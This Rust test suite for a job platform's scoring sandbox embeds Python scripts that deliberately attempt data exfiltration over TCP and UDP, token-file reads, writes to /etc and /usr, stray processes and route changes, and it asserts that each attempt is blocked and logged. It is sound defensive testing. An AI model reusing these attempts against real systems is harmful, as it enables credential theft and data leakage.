//! Hostile scoring scripts: each attack runs in its own mini-batch of a job whose other mini-batches are
//! benign, inside a workspace whose control plane and workers run in a network namespace the test
//! builds, next to a second namespace host that the worker itself can reach. The sandbox must refuse or
//! contain every attack, no listener may receive a byte, and the job's record must show the attempts.

use crate::support::{self, Project, Workspace};
use crate::testbed::Testbed;
use std::path::Path;
use std::process::Command;

const TARGET_ADDR: &str = "198.18.9.2";

const HOSTILE_SCRIPT: &str = r#"
import os, socket, subprocess, sys

def init():
    pass

def attempt(name, action):
    try:
        action()
        return f"{name}: succeeded"
    except Exception as e:
        return f"{name}: blocked ({type(e).__name__})"

def tcp(addr, port):
    s = socket.create_connection((addr, port), timeout=3)
    s.sendall(b"stolen data")
    s.close()

def udp(addr, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"stolen data", (addr, port))
    s.close()

def read(path):
    with open(path) as f:
        f.read()

def write(path):
    with open(path, "w") as f:
        f.write("pwned")

def run(mini_batch):
    e = os.environ
    out = []
    for path in mini_batch:
        kind = open(path).read().strip()
        if kind == "tcp-loopback":
            out.append(attempt(kind, lambda: tcp("127.0.0.1", int(e["LOOPBACK_PORT"]))))
        elif kind == "tcp-namespace-host":
            out.append(attempt(kind, lambda: tcp(e["TARGET_ADDR"], int(e["TARGET_PORT"]))))
        elif kind == "resolve":
            out.append(attempt(kind, lambda: socket.getaddrinfo("example.com", 443)))
        elif kind == "udp-loopback":
            out.append(attempt(kind, lambda: udp("127.0.0.1", int(e["LOOPBACK_PORT"]))))
        elif kind == "read-token":
            out.append(attempt(kind, lambda: read(e["TOKEN_PATH"])))
        elif kind == "write-outside":
            out.append(attempt(kind + " /etc", lambda: write("/etc/cove-pwned")))
            out.append(attempt(kind + " /usr", lambda: write("/usr/cove-pwned")))
            out.append(attempt(kind + " workspace", lambda: write(e["WORKSPACE_FILE"])))
        elif kind == "stray-process":
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", e["STRAY_MARKER"]])
            out.append(f"{kind}: started")
        else:
            out.append(f"benign {kind}")
    return out
"#;

#[test]
fn hostile_scoring_scripts_are_refused_or_contained() {
    let mut bed = Testbed::build("sb", &[("ws", "198.18.8.2/24"), ("target", "198.18.9.2/24")]);
    let logs = tempfile::tempdir().unwrap();
    let (loopback_log, target_log) = (logs.path().join("loopback.log"), logs.path().join("target.log"));
    let port = 19_431;
    let ws_ns = bed.ns("ws");
    bed.listen("ws", "127.0.0.1", port, &loopback_log);
    bed.listen("target", TARGET_ADDR, port, &target_log);

    // Control: the worker's own network reaches the target host, so only the sandbox stands between.
    let probe = format!("import socket; s = socket.create_connection(('{TARGET_ADDR}', {port}), timeout=3); s.sendall(b'probe'); s.close()");
    let out = Command::new("ip").args(["netns", "exec", &ws_ns, "/usr/bin/python3", "-c", &probe]).output().unwrap();
    assert!(out.status.success(), "the testbed itself is broken: {}", String::from_utf8_lossy(&out.stderr));
    let start = std::time::Instant::now();
    while !std::fs::read_to_string(&target_log).unwrap().contains("bytes 5") {
        assert!(start.elapsed().as_secs() < 10, "the control probe never arrived");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let target_before = std::fs::read_to_string(&target_log).unwrap();

    let ws = Workspace::start_in_netns(&ws_ns);
    let marker = format!("cove-stray-{}", std::process::id());
    let workspace_file = ws.path().join("pwned");
    let settings = format!(
        "mini_batch_size: 1\nmax_concurrency_per_instance: 2\nenvironment_variables:\n    LOOPBACK_PORT: '{port}'\n    TARGET_ADDR: {TARGET_ADDR}\n    TARGET_PORT: '{port}'\n    TOKEN_PATH: {}\n    WORKSPACE_FILE: {}\n    STRAY_MARKER: {marker}",
        ws.path().join("owner.token").display(),
        workspace_file.display(),
    );
    let p = Project::new(ws.dir.path(), "hostile", HOSTILE_SCRIPT, &settings);
    p.deploy(&ws);
    let data = p.dir.join("data");
    std::fs::create_dir_all(&data).unwrap();
    let kinds = [
        "benign-a",
        "tcp-loopback",
        "tcp-namespace-host",
        "resolve",
        "udp-loopback",
        "read-token",
        "write-outside",
        "stray-process",
        "benign-b",
    ];
    for (i, kind) in kinds.iter().enumerate() {
        std::fs::write(data.join(format!("{i:02}-{kind}.txt")), kind).unwrap();
    }
    let run = ws.cove(&["--json", "endpoint", "invoke", "hostile", "--input", &data.display().to_string()]);
    let name = run.ok().json()["name"].as_str().unwrap().to_string();
    let job = ws.wait_job(&name);
    assert_eq!(job["status"], "Completed", "{job:#}");
    // Writing into the workspace is refused (the sandbox's root is read-only), except when the
    // workspace lives under /tmp: then the write lands in the sandbox's private /tmp and vanishes with
    // it. Either way the host file must not exist (below).
    let workspace_write = if ws.path().starts_with("/tmp") {
        "write-outside workspace: succeeded"
    } else {
        "write-outside workspace: blocked (OSError)"
    };
    let lines: Vec<String> = ws.output_lines(&job);
    assert_eq!(
        lines,
        vec![
            "benign benign-a",
            // The sandbox's own loopback is up but empty: nothing listens there.
            "tcp-loopback: blocked (ConnectionRefusedError)",
            "tcp-namespace-host: blocked (OSError)",
            "resolve: blocked (gaierror)",
            // A datagram to the sandbox's own loopback leaves without error and reaches no one (checked below).
            "udp-loopback: succeeded",
            "read-token: blocked (FileNotFoundError)",
            "write-outside /etc: blocked (OSError)",
            "write-outside /usr: blocked (OSError)",
            workspace_write,
            "stray-process: started",
            "benign benign-b",
        ]
    );
    // No listener received anything from the scorers.
    assert_eq!(std::fs::read_to_string(&loopback_log).unwrap(), "ready\n");
    assert_eq!(std::fs::read_to_string(&target_log).unwrap(), target_before);
    assert!(
        !workspace_file.exists() && !Path::new("/etc/cove-pwned").exists() && !Path::new("/usr/cove-pwned").exists()
    );
    // The job's record shows what each attempt ran under and what it tried.
    let attempts = job["attempts"].as_array().unwrap();
    let tried: Vec<String> = attempts
        .iter()
        .flat_map(|a| a["isolation"]["network_attempts"].as_array().cloned().unwrap_or_default())
        .map(|v| v.as_str().unwrap().to_string())
        .collect();
    for expected in [
        format!("socket.connect ('127.0.0.1', {port})"),
        format!("socket.connect ('{TARGET_ADDR}', {port})"),
        "socket.getaddrinfo 'example.com'".to_string(),
        format!("socket.sendto ('127.0.0.1', {port})"),
    ] {
        assert!(tried.contains(&expected), "{expected} missing from {tried:?}");
    }
    for a in attempts {
        assert_eq!(a["isolation"]["sandbox"], "namespaces", "{a}");
        assert!(a["isolation"]["namespaces"].as_str().unwrap().contains("network (loopback only)"));
    }
    let shown = ws.cove(&["job", "show", &name]);
    assert!(
        shown.ok().stdout.contains(&format!(
            "network attempts: socket.getaddrinfo '{TARGET_ADDR}'; socket.connect ('{TARGET_ADDR}', {port})"
        )),
        "{}",
        shown.stdout
    );
    // The stray process ended with its sandbox when the job's workers stopped.
    let start = std::time::Instant::now();
    while !support::pids_with_args(&[&marker]).is_empty() {
        assert!(start.elapsed().as_secs() < 20, "a process the scorer left behind outlived the job");
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    drop(ws);
}

#[test]
fn scorers_over_their_limits_fail_their_attempt_with_the_reason() {
    let ws = Workspace::start();
    let script = r#"
import os

def init():
    pass

def run(mini_batch):
    kind = open(mini_batch[0]).read().strip()
    if kind == "memory":
        hog = bytearray(400 * 1024 * 1024)
    elif kind == "cpu":
        while True:
            pass
    return mini_batch
"#;
    let settings = "mini_batch_size: 1\nretry_settings:\n    max_retries: 1\n    timeout: 60\nlimits:\n    memory_mb: 300\n    cpu_seconds: 1";
    let p = Project::new(ws.dir.path(), "limits", script, settings);
    p.deploy(&ws);
    let shown = ws.cove(&["--json", "deployment", "show", "blue", "-e", "limits"]).ok().json();
    assert_eq!(shown["settings"]["limits"], serde_json::json!({"memory_mb": 300, "cpu_seconds": 1}));
    let data = p.dir.join("data");
    std::fs::create_dir_all(&data).unwrap();
    for (i, kind) in ["fine", "memory", "cpu"].iter().enumerate() {
        std::fs::write(data.join(format!("{i}-{kind}.txt")), kind).unwrap();
    }
    let run = ws.cove(&["--json", "endpoint", "invoke", "limits", "--input", &data.display().to_string()]);
    let job = ws.wait_job(run.ok().json()["name"].as_str().unwrap());
    assert_eq!(job["status"], "Completed", "{job:#}");
    let reasons: Vec<(u64, String)> = job["failed_batches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| (b["index"].as_u64().unwrap(), b["reason"].as_str().unwrap().to_string()))
        .collect();
    assert_eq!(reasons.len(), 2, "{reasons:?}");
    assert_eq!(reasons[0].0, 1);
    assert!(reasons[0].1.starts_with("MemoryError (the scorer reached its memory limit of 300 MB)"), "{reasons:?}");
    assert_eq!(reasons[1].0, 2);
    assert!(reasons[1].1.contains("SIGXCPU: the CPU-time limit was reached"), "{reasons:?}");
    assert_eq!(ws.output_lines(&job).len(), 1);
}

#[test]
fn a_workspace_that_opts_out_runs_scoring_code_on_a_host_that_cannot_sandbox() {
    // A PATH with the interpreter but without bubblewrap stands for a host that cannot sandbox (what
    // happens without the opt-out is in the attack suite: the job fails, naming the host).
    let bin = tempfile::tempdir().unwrap();
    let python = String::from_utf8(
        Command::new("python3").args(["-c", "import sys; print(sys.executable)"]).output().unwrap().stdout,
    )
    .unwrap();
    std::os::unix::fs::symlink(python.trim(), bin.path().join("python3")).unwrap();
    let path = bin.path().display().to_string();
    let ws = Workspace::start_with(&["--sandbox", "none"], &[("PATH", &path)]);
    let p = Project::new(ws.dir.path(), "optout", crate::support::LIST_SCRIPT, "");
    p.deploy(&ws);
    let shown = ws.cove(&["deployment", "show", "blue", "-e", "optout"]);
    assert!(shown.ok().stdout.contains("Sandbox:                      none (warning"), "{}", shown.stdout);
    assert!(ws.cove(&["workspace", "show"]).ok().stdout.contains("Sandbox:           none (warning"));
    let run = ws.cove(&["--json", "endpoint", "invoke", "optout", "--input", &p.inputs(2).display().to_string()]);
    let job = ws.wait_job(run.ok().json()["name"].as_str().unwrap());
    assert_eq!(job["status"], "Completed", "{job:#}");
    assert_eq!(job["attempts"][0]["isolation"]["sandbox"], "none");
}

#[test]
fn workers_on_the_control_planes_host_take_its_word_that_the_sandbox_works() {
    // Probing the sandbox builds one (about 4 ms, on the way to every job's first scorer); the control
    // plane probes once and tells the workers it starts on its host. A bubblewrap that logs its calls
    // shows the probe made once for two jobs (each of whose workers probed before), while every job's
    // scorers still run sandboxed.
    let real = String::from_utf8(Command::new("sh").args(["-c", "command -v bwrap"]).output().unwrap().stdout).unwrap();
    let real = real.trim();
    assert!(!real.is_empty(), "bubblewrap is on this host");
    let bin = tempfile::tempdir().unwrap();
    let calls = bin.path().join("calls");
    let wrapper = bin.path().join("bwrap");
    std::fs::write(&wrapper, format!("#!/bin/sh\necho \"$*\" >> '{}'\nexec '{real}' \"$@\"\n", calls.display()))
        .unwrap();
    std::fs::set_permissions(&wrapper, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", bin.path().display(), std::env::var("PATH").unwrap());
    let ws = Workspace::start_with(&[], &[("PATH", &path)]);
    let p = Project::new(ws.dir.path(), "probed", crate::support::LIST_SCRIPT, "");
    p.deploy(&ws);
    for _ in 0..2 {
        let run = ws.cove(&["--json", "endpoint", "invoke", "probed", "--input", &p.inputs(2).display().to_string()]);
        let job = ws.wait_job(run.ok().json()["name"].as_str().unwrap());
        assert_eq!(job["status"], "Completed", "{job:#}");
        assert_eq!(job["attempts"][0]["isolation"]["sandbox"], "namespaces", "{job:#}");
    }
    let calls = std::fs::read_to_string(&calls).unwrap();
    // (A scorer host's bubblewrap is found on the scorer's own PATH, not this one.)
    let probes = calls.lines().filter(|c| *c == "--unshare-all --die-with-parent --ro-bind / / true").count();
    assert_eq!(probes, 1, "the sandbox was probed once for two jobs' workers:\n{calls}");
}

const EGRESS_SCRIPT: &str = r#"
import os, socket, subprocess

def init():
    pass

def attempt(name, action):
    try:
        return f"{name}: {action()}"
    except Exception as e:
        return f"{name}: blocked ({type(e).__name__})"

def tcp(addr, port):
    s = socket.create_connection((addr, port), timeout=3)
    s.sendall(b"features please")
    s.close()
    return "sent"

def widen():
    # Root inside its own namespaces: it can reconfigure its empty network, which leads nowhere.
    subprocess.run(["/usr/sbin/ip", "route", "add", "default", "dev", "lo"], capture_output=True)
    return tcp(os.environ["TARGET_ADDR"], int(os.environ["OTHER_PORT"]))

def run(mini_batch):
    e = os.environ
    out = []
    for path in mini_batch:
        kind = open(path).read().strip()
        if kind == "allowed":
            out.append(attempt(kind, lambda: tcp(e["TARGET_ADDR"], int(e["ALLOWED_PORT"]))))
        elif kind == "other-port":
            out.append(attempt(kind, lambda: tcp(e["TARGET_ADDR"], int(e["OTHER_PORT"]))))
        elif kind == "host-loopback":
            out.append(attempt(kind, lambda: tcp("127.0.0.1", int(e["OTHER_PORT"]))))
        elif kind == "as-root":
            out.append(f"uid {os.getuid()}")
            out.append(attempt(kind, widen))
    return out
"#;

#[test]
fn egress_reaches_only_the_private_endpoints_a_deployment_lists() {
    let mut bed = Testbed::build("eg", &[("ws", "198.18.8.2/24"), ("target", "198.18.9.2/24")]);
    let logs = tempfile::tempdir().unwrap();
    let (allowed_log, other_log, loop_log) =
        (logs.path().join("allowed.log"), logs.path().join("other.log"), logs.path().join("loop.log"));
    let (allowed, other) = (19_441u16, 19_442u16);
    bed.listen("target", TARGET_ADDR, allowed, &allowed_log);
    bed.listen("target", TARGET_ADDR, other, &other_log);
    bed.listen("ws", "127.0.0.1", other, &loop_log);
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("network.yml");
    std::fs::write(
        &config,
        format!(
            "networks:\n  - name: loopback\n    address_space: [127.0.0.0/8]\n  - name: features\n    address_space: [198.18.9.0/24]\n\
             private_endpoints:\n  - name: api\n    service: api\n    address: 127.0.0.1:0\n    network: loopback\n\
             \x20 - name: feature-store\n    service: egress\n    address: {TARGET_ADDR}:{allowed}\n    network: features\n"
        ),
    )
    .unwrap();
    let ws = Workspace::start_in_netns_with(&bed.ns("ws"), &["--config", &config.display().to_string()]);
    let settings = format!(
        "mini_batch_size: 1\nenvironment_variables:\n    TARGET_ADDR: {TARGET_ADDR}\n    ALLOWED_PORT: '{allowed}'\n    OTHER_PORT: '{other}'"
    );
    let p = Project::new(ws.dir.path(), "egress", EGRESS_SCRIPT, &settings);
    let deployment = p.dir.join("deployment.yml");
    let yaml = std::fs::read_to_string(&deployment).unwrap();
    std::fs::write(&deployment, format!("{yaml}egress:\n  - no-such-endpoint\n")).unwrap();
    ws.cove(&["endpoint", "create", "-f", &p.file("endpoint.yml")]).ok();
    ws.cove(&["deployment", "create", "-f", &p.file("deployment.yml")]).fails_with(
        2,
        "egress: `no-such-endpoint` is not a private endpoint with service: egress (configured: feature-store)",
    );
    std::fs::write(&deployment, format!("{yaml}egress:\n  - feature-store\n")).unwrap();
    ws.cove(&["deployment", "create", "-f", &p.file("deployment.yml"), "--set-default"]).ok();
    let data = p.dir.join("data");
    std::fs::create_dir_all(&data).unwrap();
    for (i, kind) in ["allowed", "other-port", "host-loopback", "as-root"].iter().enumerate() {
        std::fs::write(data.join(format!("{i}-{kind}.txt")), kind).unwrap();
    }
    let run = ws.cove(&["--json", "endpoint", "invoke", "egress", "--input", &data.display().to_string()]);
    let job = ws.wait_job(run.ok().json()["name"].as_str().unwrap());
    assert_eq!(job["status"], "Completed", "{job:#}");
    let lines = ws.output_lines(&job);
    assert_eq!(lines[0], "allowed: sent");
    assert!(lines[1].starts_with("other-port: blocked"), "{lines:?}");
    assert!(lines[2].starts_with("host-loopback: blocked"), "{lines:?}");
    assert_eq!(lines[3], "uid 0", "the scoring code is root inside its namespace");
    assert!(lines[4].starts_with("as-root: blocked"), "{lines:?}");
    assert!(std::fs::read_to_string(&allowed_log).unwrap().contains("bytes 15"), "the allowed endpoint got the bytes");
    assert_eq!(std::fs::read_to_string(&other_log).unwrap(), "ready\n");
    assert_eq!(std::fs::read_to_string(&loop_log).unwrap(), "ready\n");
    let attempts = job["attempts"].as_array().unwrap();
    assert!(attempts
        .iter()
        .all(|a| a["isolation"]["egress"] == serde_json::json!([format!("feature-store {TARGET_ADDR}:{allowed}")])));
    let tried: Vec<String> = attempts
        .iter()
        .flat_map(|a| a["isolation"]["network_attempts"].as_array().cloned().unwrap_or_default())
        .map(|v| v.as_str().unwrap().to_string())
        .collect();
    assert!(tried.contains(&format!("socket.connect ('{TARGET_ADDR}', {other})")), "{tried:?}");
    assert!(!tried.iter().any(|r| r.contains(&allowed.to_string())), "allowed egress is not listed: {tried:?}");
}
